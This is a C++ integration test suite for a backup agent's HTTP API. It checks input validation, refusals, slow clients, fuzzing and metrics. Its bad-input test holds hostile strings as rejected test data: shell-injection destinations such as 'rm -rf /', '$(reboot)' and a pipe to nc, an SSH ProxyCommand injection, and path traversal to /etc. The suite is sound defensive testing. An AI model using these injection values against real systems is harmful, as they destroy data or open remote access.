// The agent's HTTP API against live agents (real broker, agents, ledgerd,
// CLI; each agent on a loopback port of its own): what the broker refuses
// is a 409; hostile and malformed requests are 4xx with a message and issue
// nothing (the event log shows no command from the API); a client that
// stalls mid-request does not hold up the others; a seeded mutation loop
// gets only well-formed JSON answers and leaves the agent serving; the
// broker down is a 503 while status and /metrics still answer; a busy port
// stops the agent at start saying how to change it; /metrics passes
// `promtool check metrics` and follows the backups.
#include <fcntl.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <thread>

#include "agents/runbook_request.h"
#include "backup/backup_destination.h"
#include "common/process.h"
#include "tests/common/sshd_fixture.h"
#include "tests/integration/agent_http_fixture.h"
#include "tests/support/cli_json.h"
#include "tests/support/status_macros.h"
#include "tests/support/test_cluster.h"
#include "tests/support/wait.h"

namespace ledgerkeep::test {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;

class AgentHttpTest : public ::testing::Test {
 protected:
  void StartCluster(TestClusterOptions o) {
    LK_ASSERT_OK_AND_ASSIGN(cluster_, TestCluster::Create(std::move(o)));
    LK_ASSERT_OK(cluster_->StartAll());
    for (const auto& n : cluster_->AgentNodes()) {
      const int port = cluster_->AgentHttpPort(n);
      ASSERT_TRUE(WaitUntil([&] { return testing::PortAccepts(port); }, 10s)) << n << " does not serve HTTP";
    }
  }
  int Port(const std::string& node) const { return cluster_->AgentHttpPort(node); }
  RunResult Cli(const std::vector<std::string>& args) {
    std::vector<std::string> full = {"--json"};
    full.insert(full.end(), args.begin(), args.end());
    return cluster_->RunCli(full, 60s);
  }
  size_t HttpCommands() {
    auto client = cluster_->ConnectOperator();
    EXPECT_TRUE(client.ok()) << client.status().ToString();
    if (!client.ok()) return SIZE_MAX;
    auto n = CommandsFromHttp(**client);
    EXPECT_TRUE(n.ok()) << n.status().ToString();
    return n.ok() ? *n : SIZE_MAX;
  }
  std::unique_ptr<TestCluster> cluster_;
};

std::string RunbookSchedule(const std::string& destination) {
  return R"({"backup_destination": ")" + destination +
         R"(", "schedule_frequency": "HOURLY", "rsync_user_name": "vmbc", "backup_time_zone": "time_zone"})";
}

// ---------------------------------------------------------------- refused

// The broker's destination rules: a directory that holds another node's
// snapshots is refused before anything is issued. (Neither the broker nor
// the agent refuses a node stop while wedged or during maintenance: a
// stop is what the runbook does then. So 409 is tested on the destination.)
TEST_F(AgentHttpTest, AnotherNodesDirectoryIsRefusedWith409AndNothingIsIssued) {
  TestClusterOptions o;
  o.replicas = 2;
  o.clients = 0;
  StartCluster(o);
  const std::string shared = cluster_->dir() + "/backups/r2-home";
  RunResult r2 = Cli({"backup", "schedule", "--node", "r2", "--destination", shared, "--frequency", "daily"});
  ASSERT_EQ(r2.exit_code, 0) << r2.Describe();

  for (const char* action : {"schedule", "run_now"}) {
    SCOPED_TRACE(action);
    std::string body = std::string(action) == "schedule" ? RunbookSchedule(shared)
                                                          : R"({"backup_destination": ")" + shared + R"("})";
    LK_ASSERT_OK_AND_ASSIGN(HttpReply r, Http(Port("r1"), "POST", std::string("/api/backup?action=") + action, body,
                                              {"Content-Type: application/json"}));
    EXPECT_EQ(r.status, 409) << r.Describe();
    EXPECT_FALSE(r.json.value("ok", true)) << r.Describe();
    EXPECT_NE(r.json.value("error", "").find("r2"), std::string::npos) << "the refusal names the owner: " << r.Describe();
  }
  EXPECT_EQ(HttpCommands(), 0u);
  // The same directory for its own node is fine.
  LK_ASSERT_OK_AND_ASSIGN(HttpReply own, Http(Port("r2"), "POST", "/api/backup?action=schedule",
                                              RunbookSchedule(shared), {"Content-Type: application/json"}));
  EXPECT_EQ(own.status, 200) << own.Describe();
}

// ---------------------------------------------------------------- bad input

TEST_F(AgentHttpTest, BadRequestsAre4xxWithAMessageAndIssueNothing) {
  TestClusterOptions o;
  o.replicas = 1;
  o.clients = 0;
  StartCluster(o);
  const int port = Port("r1");
  const std::string dest = cluster_->dir() + "/b";
  struct Case {
    std::string what, method, target, body;
    int status;
    std::string says;  // in the error message
    std::vector<std::string> headers = {"Content-Type: application/json"};
  };
  const std::string mib(1 << 20, 'x');
  std::vector<Case> cases = {
      {"bad JSON", "POST", "/api/backup?action=schedule", R"({"backup_destination": "/b",)", 400, "byte"},
      {"not an object", "POST", "/api/backup?action=run_now", "[1, 2]", 400, "JSON object"},
      {"unknown action", "POST", "/api/backup?action=explode", RunbookSchedule(dest), 400, "unknown action"},
      {"no action", "POST", "/api/node/management", "", 400, "no action"},
      {"unknown node action", "POST", "/api/node/management?action=reboot", "", 400, "unknown action"},
      {"unknown field", "POST", "/api/backup?action=schedule",
       R"({"backup_destinaton": "/b", "schedule_frequency": "HOURLY"})", 400, "backup_destinaton"},
      {"field on node management", "POST", "/api/node/management?action=stop", R"({"force": true})", 400,
       "no fields"},
      {"repeated field", "POST", "/api/backup?action=run_now",
       R"({"backup_destination": ")" + dest + R"(", "backup_destination": "/etc"})", 400, "more than once"},
      {"wrong type", "POST", "/api/backup?action=schedule",
       R"({"backup_destination": ")" + dest + R"(", "schedule_frequency": 5})", 400, "must be a string"},
      {"bad frequency", "POST", "/api/backup?action=schedule",
       R"({"backup_destination": ")" + dest + R"(", "schedule_frequency": "weekly"})", 400, "schedule_frequency"},
      {"bad zone", "POST", "/api/backup?action=schedule",
       R"({"backup_destination": ")" + dest + R"(", "schedule_frequency": "HOURLY", "backup_time_zone": "Mars/Olympus"})",
       400, "IANA"},
      {"unknown query parameter", "POST", "/api/backup?action=run_now&force=1", "", 400, "force"},
      {"bad wait_s", "POST", "/api/backup?action=run_now&wait_s=-5", "", 400, "wait_s"},
      {"wrong method", "GET", "/api/backup?action=schedule", "", 405, "GET"},
      {"wrong method on status", "DELETE", "/api/node/status", "", 405, "DELETE"},
      {"wrong method on metrics", "POST", "/metrics", "", 405, "POST"},
      {"unknown path", "GET", "/api/nothing", "", 404, "no such path"},
      {"a 1 MiB body", "POST", "/api/backup?action=schedule", mib, 413, "too large"},
      {"from a web page", "POST", "/api/node/management?action=stop", "", 403, "web pages",
       {"Origin: http://evil.example"}},
  };
  for (const std::string d : {"10.72.216.118:/backups; rm -rf /", "10.72.216.118:/b/$(reboot)",
                              "10.72.216.118:/b/`id`", "10.72.216.118:/backups/../etc", "/backups/../../etc",
                              "10.72.216.118:/b|nc 1.2.3.4 9", "-oProxyCommand=sh:/b", "10.72.216.118:/b\u201d",
                              "10.72.216.118:/b\\u0007"}) {
    const std::string body = R"({"backup_destination": ")" + d + R"(", "schedule_frequency": "HOURLY"})";
    cases.push_back({"destination " + d, "POST", "/api/backup?action=schedule", body, 400, "backup_destination"});
  }
  for (const auto& c : cases) {
    SCOPED_TRACE(c.what);
    LK_ASSERT_OK_AND_ASSIGN(HttpReply r, Http(port, c.method, c.target, c.body, c.headers));
    EXPECT_EQ(r.status, c.status) << r.Describe();
    ASSERT_TRUE(r.json.is_object()) << "not JSON: " << r.Describe();
    EXPECT_FALSE(r.json.value("ok", true)) << r.Describe();
    EXPECT_NE(r.json.value("error", "").find(c.says), std::string::npos) << r.Describe();
  }
  EXPECT_EQ(HttpCommands(), 0u) << "a refused request issued a command";
  ASSERT_TRUE(cluster_->agent_process("r1")->IsRunning());

  // The broker down: an action is a 503 that says nothing ran; what the
  // agent knows itself still answers.
  LK_ASSERT_OK(cluster_->KillBroker());
  LK_ASSERT_OK_AND_ASSIGN(HttpReply down, Http(port, "POST", "/api/node/management?action=stop"));
  EXPECT_EQ(down.status, 503) << down.Describe();
  EXPECT_NE(down.json.value("error", "").find("not run"), std::string::npos) << down.Describe();
  LK_ASSERT_OK_AND_ASSIGN(HttpReply status, Http(port, "GET", "/api/node/status"));
  EXPECT_EQ(status.status, 200) << status.Describe();
  EXPECT_EQ(status.json.value("node", ""), "r1") << status.Describe();
  LK_ASSERT_OK_AND_ASSIGN(HttpReply metrics, Http(port, "GET", "/metrics"));
  EXPECT_EQ(metrics.status, 200) << metrics.Describe();
}

// ---------------------------------------------------------------- slow client

TEST_F(AgentHttpTest, AClientThatStallsMidRequestDoesNotHoldUpOthers) {
  TestClusterOptions o;
  o.replicas = 1;
  o.clients = 0;
  StartCluster(o);
  const int port = Port("r1");
  std::vector<int> stalled;
  for (int i = 0; i < 4; ++i) {
    const int fd = ConnectLoopback(port);
    ASSERT_GE(fd, 0);
    const std::string half =
        "POST /api/backup?action=run_now HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 200\r\n\r\n{\"backup_dest";
    ASSERT_EQ(::send(fd, half.data(), half.size(), MSG_NOSIGNAL), static_cast<ssize_t>(half.size()));
    stalled.push_back(fd);
  }
  for (int i = 0; i < 10; ++i) {
    const int64_t t0 = MonotonicMs();
    LK_ASSERT_OK_AND_ASSIGN(HttpReply r, Http(port, "GET", "/api/node/status"));
    EXPECT_EQ(r.status, 200) << r.Describe();
    EXPECT_LT(MonotonicMs() - t0, 1000) << "request " << i << " waited behind the stalled clients";
  }
  for (int fd : stalled) ::close(fd);
  EXPECT_EQ(HttpCommands(), 0u);
}

// ---------------------------------------------------------------- mutation loop

struct Template {
  std::string method, target, body;
};

std::string RandomUnicode(std::mt19937& rng) {
  static const std::vector<std::string> kBits = {"\u201d", "\u201c", "\u202e", "\xF0\x9F\x92\xA5", "\xC3\x28",
                                                 "\xFF",    "\\u0000", "\\ud800", "\u00e9",          "\x00"};
  return kBits[rng() % kBits.size()];
}

// One mutation of `t` (the request may stay valid).
Template Mutate(Template t, std::mt19937& rng) {
  static const std::vector<std::string> kMethods = {"GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "FOO"};
  static const std::vector<std::string> kPaths = {
      "/api/backup", "/api/node/management", "/api/node/status", "/api/node", "/metrics", "/", "/api",
      "/api/backup/", "/api/node/../node/status", "/%2e%2e/etc/passwd", "/api/backup%00", "/api/node/status?x=1"};
  static const std::vector<std::string> kValues = {"1e308", "123456789012345678901234567890", "-1", "[]", "{}",
                                                   "true", "null", "\"\"", "[\"/b\"]", "{\"a\": {\"b\": [1]}}"};
  const int kinds = 1 + static_cast<int>(rng() % 3);
  for (int k = 0; k < kinds; ++k) {
    switch (rng() % 10) {
      case 0:  // flip a byte
        if (!t.body.empty()) t.body[rng() % t.body.size()] = static_cast<char>(rng() % 256);
        break;
      case 1:  // truncate
        if (!t.body.empty()) t.body.resize(rng() % t.body.size());
        break;
      case 2: {  // duplicate or drop a field
        auto j = nlohmann::json::parse(t.body, nullptr, false);
        if (j.is_object() && !j.empty()) {
          auto it = j.begin();
          std::advance(it, static_cast<long>(rng() % j.size()));
          if (rng() % 2) {
            j.erase(it);
            t.body = j.dump();
          } else {
            t.body.insert(1, "\"" + it.key() + "\": " + it.value().dump() + ", ");
          }
        }
        break;
      }
      case 3: {  // a value of another type or size
        auto j = nlohmann::json::parse(t.body, nullptr, false);
        if (j.is_object() && !j.empty()) {
          auto it = j.begin();
          std::advance(it, static_cast<long>(rng() % j.size()));
          std::string dumped = j.dump();
          const std::string needle = "\"" + it.key() + "\":" + it.value().dump();
          if (auto at = dumped.find(needle); at != std::string::npos) {
            dumped.replace(at, needle.size(), "\"" + it.key() + "\":" + kValues[rng() % kValues.size()]);
          }
          t.body = dumped;
        }
        break;
      }
      case 4:  // unicode and invalid UTF-8
        t.body.insert(t.body.empty() ? 0 : rng() % t.body.size(), RandomUnicode(rng));
        break;
      case 5: t.method = kMethods[rng() % kMethods.size()]; break;
      case 6: {
        const std::string& p = kPaths[rng() % kPaths.size()];
        const auto q = t.target.find('?');
        t.target = p + (q == std::string::npos || p.find('?') != std::string::npos ? "" : t.target.substr(q));
        break;
      }
      case 7: {  // the query
        static const std::vector<std::string> kQueries = {"?action=", "?action=schedule&action=run_now",
                                                          "?action=run_now&wait_s=99999999999",
                                                          "?action=stop&wait_s=abc", "?action=%00", "?action=start&x=y",
                                                          "?action=" + std::string(300, 'a')};
        const auto q = t.target.find('?');
        t.target = t.target.substr(0, q) + kQueries[rng() % kQueries.size()];
        break;
      }
      case 8:  // a long or odd path
        t.target = rng() % 2 ? "/" + std::string(9000, 'a') : "/api/" + std::to_string(rng());
        break;
      default:  // junk appended
        t.body += std::string(1 + rng() % 64, static_cast<char>('!' + rng() % 90));
        break;
    }
  }
  return t;
}

TEST_F(AgentHttpTest, ASeededMutationLoopGetsOnlyWellFormedAnswersAndTheAgentKeepsServing) {
  TestClusterOptions o;
  o.replicas = 1;
  o.clients = 0;
  // A node config (with a ledger, so that valid mutants do real work) whose
  // SSH fails at once, without a DNS lookup or a connection: mutated hosts
  // (and the runbook's 10.72.216.118) reach no one.
  o.with_ledger = true;
  o.node_config_extra = "[backup]\nssh_options = [\"-o\", \"ProxyCommand=/bin/false\"]\n";
  StartCluster(o);
  const int port = Port("r1");
  const std::string home = cluster_->dir() + "/mut";
  const std::vector<Template> templates = {
      {"POST", "/api/backup?action=schedule", RunbookSchedule(home + "/{node}")},
      // The runbook's step 2 as printed (its U+201D), the destination local.
      {"POST", "/api/backup?action=schedule",
       "{\"backup_destination\xE2\x80\x9D: \"" + home + "/{node}\", \"schedule_frequency\": \"HOURLY\", "
       "\"rsync_user_name\": \"vmbc\", \"backup_time_zone\": \"time_zone\"}"},
      {"POST", "/api/backup?action=run_now&wait_s=5", R"({"backup_destination": "root@127.0.0.1:/mut/{node}"})"},
      {"POST", "/api/backup?action=run_now&wait_s=5",
       R"({"backup_destination": ")" + home + R"(/{node}", "rsync_user_name": "vmbc", "backup_time_zone": "time_zone"})"},
      {"POST", "/api/backup?action=unschedule", ""},
      {"POST", "/api/node/management?action=stop", ""},
      {"POST", "/api/node/management?action=start", ""},
      {"GET", "/api/node/status", ""},
      {"GET", "/metrics", ""},
  };
  const uint32_t seed = 20'160'516;
  std::printf("mutation loop seed %u (%d requests)\n", seed, 300);
  std::mt19937 rng(seed);
  std::map<int, int> by_status;
  int guarded = 0;
  for (int i = 0; i < 300; ++i) {
    Template t = Mutate(templates[rng() % templates.size()], rng);
    // A mutation that is a valid backup request for a local directory
    // outside the test's would create it on this host: mutate again.
    for (int again = 0; again < 20; ++again) {
      QueryParams q;
      if (auto at = t.target.find("action="); at != std::string::npos) q.emplace("action", t.target.substr(at + 7));
      auto parsed = ParseBackupRequest(q, t.body, "r1");
      if (!parsed.ok() || !parsed->destination) break;
      auto d = ParseDestination(ExpandNodePlaceholder(*parsed->destination, "r1"), "", "", 0);
      if (!d.ok() || d->LocalDirectory().empty() || d->LocalDirectory().rfind(cluster_->dir() + "/", 0) == 0) break;
      ++guarded;
      t = Mutate(templates[rng() % templates.size()], rng);
    }
    std::string req = t.method + " " + t.target + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n";
    if (rng() % 4) req += "Content-Type: application/json\r\n";
    req += "Content-Length: " + std::to_string(t.body.size()) + "\r\n\r\n" + t.body;
    auto r = RawHttp(port, req, 60s);
    ASSERT_TRUE(r.ok()) << "request " << i << " (seed " << seed << "): " << r.status().ToString() << "\n" << req.substr(0, 300);
    by_status[r->status]++;
    const bool is_metrics = t.method == "GET" && t.target.substr(0, t.target.find('?')) == "/metrics";
    if (!is_metrics) {
      ASSERT_TRUE(r->json.is_object()) << "request " << i << " (seed " << seed << "): not a JSON object: "
                                       << r->Describe() << "\n" << req.substr(0, 300);
    }
    const bool documented_5xx =
        (r->status == 500 && r->json.contains("cmd_id") && r->json.value("finished", false)) ||
        (r->status == 503 && r->json.contains("code"));
    if (documented_5xx) std::printf("request %d: %d %s\n", i, r->status, r->json.value("error", "").c_str());
    EXPECT_TRUE((r->status >= 200 && r->status < 300) || (r->status >= 400 && r->status < 500) || documented_5xx)
        << "request " << i << " (seed " << seed << "): " << r->Describe() << "\n" << req.substr(0, 300);
  }
  std::ostringstream counts;
  for (const auto& [code, n] : by_status) counts << " " << code << ":" << n;
  std::printf("mutation loop seed %u: answers by status%s; %zu commands issued; %d mutations redone (local "
              "directory outside the test's)\n",
              seed, counts.str().c_str(), HttpCommands(), guarded);
  LK_ASSERT_OK_AND_ASSIGN(HttpReply after, Http(port, "GET", "/api/node/status"));
  EXPECT_EQ(after.status, 200) << after.Describe();
  EXPECT_TRUE(cluster_->agent_process("r1")->IsRunning());
  LK_EXPECT_OK(cluster_->PingAllOk(10s));
}

// ---------------------------------------------------------------- start-up

TEST_F(AgentHttpTest, APortInUseStopsTheAgentAtStartSayingHowToChangeIt) {
  const int busy = testing::FreeLoopbackPort();
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(busy));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  ASSERT_EQ(::listen(fd, 4), 0);
  TestClusterOptions o;
  o.replicas = 1;
  o.clients = 0;
  o.agent_http_listen = {{"r1", "127.0.0.1:" + std::to_string(busy)}};
  LK_ASSERT_OK_AND_ASSIGN(cluster_, TestCluster::Create(o));
  LK_ASSERT_OK(cluster_->StartBroker());
  LK_ASSERT_OK(cluster_->StartAgent("r1"));
  auto code = cluster_->agent_process("r1")->WaitExit(20s);
  ::close(fd);
  ASSERT_TRUE(code.has_value()) << "the agent kept running without its HTTP API";
  EXPECT_EQ(*code, 2);
  const std::string log = ReadFile(cluster_->LogPath("r1"));
  EXPECT_NE(log.find("127.0.0.1:" + std::to_string(busy)), std::string::npos) << log;
  EXPECT_NE(log.find("--http-listen"), std::string::npos) << log;
  EXPECT_NE(log.find("[http] listen"), std::string::npos) << log;
}

// ---------------------------------------------------------------- metrics

double MetricValue(const std::string& text, const std::string& series) {
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    if (line.rfind(series + " ", 0) == 0) return std::stod(line.substr(series.size() + 1));
  }
  return -1;
}

bool HasFamily(const std::string& text, const std::string& name) {
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    if (line.rfind(name + "{", 0) == 0 || line.rfind(name + " ", 0) == 0) return true;
  }
  return false;
}

TEST_F(AgentHttpTest, MetricsPassPromtoolAndFollowTheBackups) {
  TestClusterOptions o;
  o.replicas = 1;
  o.clients = 1;
  o.clones = 1;
  o.with_ledger = true;
  StartCluster(o);
  const int clone_port = cluster_->AgentHttpPort("clone1");
  ASSERT_TRUE(WaitUntil([&] { return testing::PortAccepts(clone_port); }, 10s));
  auto scrape = [&](const std::string& node) {
    auto r = Http(cluster_->AgentHttpPort(node), "GET", "/metrics");
    EXPECT_TRUE(r.ok() && r->status == 200) << node << ": " << (r.ok() ? r->Describe() : r.status().ToString());
    if (r.ok()) {
      EXPECT_NE(r->headers["content-type"].find("text/plain; version=0.0.4"), std::string::npos);
    }
    return r.ok() ? r->body : std::string();
  };
  const std::string r1 = "{node=\"r1\"}";
  ASSERT_TRUE(WaitUntil([&] { return MetricValue(scrape("r1"), "ledgerkeep_ledger_last_block_id" + r1) > 0; }, 20s));
  std::string before = scrape("r1");
  EXPECT_EQ(MetricValue(before, "ledgerkeep_ledger_up" + r1), 1) << before;
  EXPECT_GE(MetricValue(before, "ledgerkeep_ledger_blocks_per_second" + r1), 0) << before;
  EXPECT_TRUE(HasFamily(before, "ledgerkeep_ledger_fast_paths_total")) << before;
  EXPECT_EQ(MetricValue(before, "ledgerkeep_ledger_wedged" + r1), 0) << before;
  EXPECT_NE(before.find("ledgerkeep_agent_info{node=\"r1\",role=\"replica\",version=\""), std::string::npos) << before;
  // Never backed up: no backup series that an alert could fire on.
  EXPECT_FALSE(HasFamily(before, "ledgerkeep_backup_last_run_success")) << before;

  // A client exports no ledger series; a clone without a restored ledger
  // only says its ledgerd is not up.
  const std::string c1 = scrape("c1");
  EXPECT_FALSE(HasFamily(c1, "ledgerkeep_ledger_up")) << c1;
  EXPECT_TRUE(HasFamily(c1, "ledgerkeep_agent_info")) << c1;
  const std::string clone = scrape("clone1");
  EXPECT_EQ(MetricValue(clone, "ledgerkeep_ledger_up{node=\"clone1\"}"), 0) << clone;
  EXPECT_FALSE(HasFamily(clone, "ledgerkeep_ledger_blocks_per_second")) << clone;

  // Two backups: the run counter and the last success follow.
  const std::string dest = cluster_->dir() + "/backups/{node}";
  RunResult first = Cli({"backup", "run-now", "--node", "r1", "--destination", dest});
  ASSERT_EQ(first.exit_code, 0) << first.Describe();
  const std::string after1 = scrape("r1");
  EXPECT_EQ(MetricValue(after1, "ledgerkeep_backup_runs_total{node=\"r1\",result=\"success\"}"), 1) << after1;
  const double t1 = MetricValue(after1, "ledgerkeep_backup_last_success_timestamp_seconds" + r1);
  EXPECT_GT(t1, 1.6e9) << after1;
  EXPECT_EQ(MetricValue(after1, "ledgerkeep_backup_last_run_success" + r1), 1) << after1;
  EXPECT_EQ(MetricValue(after1, "ledgerkeep_backup_snapshots" + r1), 1) << after1;
  RunResult second = Cli({"backup", "run-now", "--node", "r1", "--destination", dest});
  ASSERT_EQ(second.exit_code, 0) << second.Describe();
  const std::string after2 = scrape("r1");
  EXPECT_EQ(MetricValue(after2, "ledgerkeep_backup_runs_total{node=\"r1\",result=\"success\"}"), 2) << after2;
  const double t2 = MetricValue(after2, "ledgerkeep_backup_last_success_timestamp_seconds" + r1);
  EXPECT_GT(t2, t1) << after2;
  EXPECT_EQ(MetricValue(after2, "ledgerkeep_backup_snapshots" + r1), 2) << after2;
  EXPECT_GT(MetricValue(after2, "ledgerkeep_http_requests_total{code=\"200\"}"), 0) << after2;

  // The exposition is what Prometheus accepts (skipped at the end, saying
  // so, without promtool).
  const bool have_promtool = ::access("/usr/bin/promtool", X_OK) == 0;
  for (const auto& [node, text] : std::vector<std::pair<std::string, std::string>>{
           {"r1", after2}, {"c1", c1}, {"clone1", clone}}) {
    if (!have_promtool) break;
    SCOPED_TRACE(node);
    const std::string file = cluster_->dir() + "/metrics-" + node + ".txt";
    std::ofstream(file) << text;
    const int in = ::open(file.c_str(), O_RDONLY | O_CLOEXEC);
    ASSERT_GE(in, 0);
    RunOptions ro;
    ro.stdin_fd = in;
    ro.timeout_ms = 30'000;
    auto res = ProcessRunner::Real()->RunStreaming({"/usr/bin/promtool", "check", "metrics"}, ro);
    ::close(in);
    LK_ASSERT_OK(res);
    EXPECT_EQ(res->exit_code, 0) << res->output << "\n" << text;
  }

  // A restarted agent starts from its persisted runs: the last success and
  // the snapshot count are back before any new run.
  LK_ASSERT_OK(cluster_->RestartAgent("r1"));
  ASSERT_TRUE(WaitUntil([&] { return testing::PortAccepts(Port("r1")); }, 10s));
  const std::string restarted = scrape("r1");
  EXPECT_NEAR(MetricValue(restarted, "ledgerkeep_backup_last_success_timestamp_seconds" + r1), t2, 0.002)
      << restarted;
  EXPECT_EQ(MetricValue(restarted, "ledgerkeep_backup_last_run_success" + r1), 1) << restarted;
  EXPECT_EQ(MetricValue(restarted, "ledgerkeep_backup_snapshots" + r1), 2) << restarted;
  EXPECT_EQ(MetricValue(restarted, "ledgerkeep_backup_runs_total{node=\"r1\",result=\"success\"}"), 0) << restarted;

  // And the status answers locally, with the ledger and the backups.
  LK_ASSERT_OK_AND_ASSIGN(HttpReply st, Http(Port("r1"), "GET", "/api/node/status"));
  ASSERT_EQ(st.status, 200) << st.Describe();
  EXPECT_TRUE(st.json["ledger"].value("up", false)) << st.Describe();
  EXPECT_GT(st.json["ledger"].value("last_block_id", uint64_t{0}), 0u) << st.Describe();
  EXPECT_TRUE(st.json["backup"]["last_ok"].value("ok", false)) << st.Describe();
  EXPECT_EQ(st.json["components"][0].value("name", ""), "ledgerd") << st.Describe();

  // A run_now that does not finish within wait_s: 202 with the command and
  // how to follow it; the backup goes on and lands in the metrics.
  LK_ASSERT_OK_AND_ASSIGN(HttpReply later, Http(Port("r1"), "POST", "/api/backup?action=run_now&wait_s=0",
                                                R"({"backup_destination": ")" + dest + R"("})",
                                                {"Content-Type: application/json"}));
  ASSERT_EQ(later.status, 202) << later.Describe();
  EXPECT_TRUE(later.json.value("ok", false)) << later.Describe();
  EXPECT_FALSE(later.json.value("finished", true)) << later.Describe();
  EXPECT_GT(later.json.value("cmd_id", uint64_t{0}), 0u) << later.Describe();
  EXPECT_EQ(later.json.value("follow", ""), "ledgerkeep events --follow --filter command.r1") << later.Describe();
  EXPECT_TRUE(WaitUntil(
      [&] { return MetricValue(scrape("r1"), "ledgerkeep_backup_runs_total{node=\"r1\",result=\"success\"}") == 1; },
      30s, 100ms))
      << scrape("r1");
  if (!have_promtool) {
    GTEST_SKIP() << "promtool missing (Debian package prometheus): the exposition format was not checked";
  }
}

}  // namespace
}  // namespace ledgerkeep::test
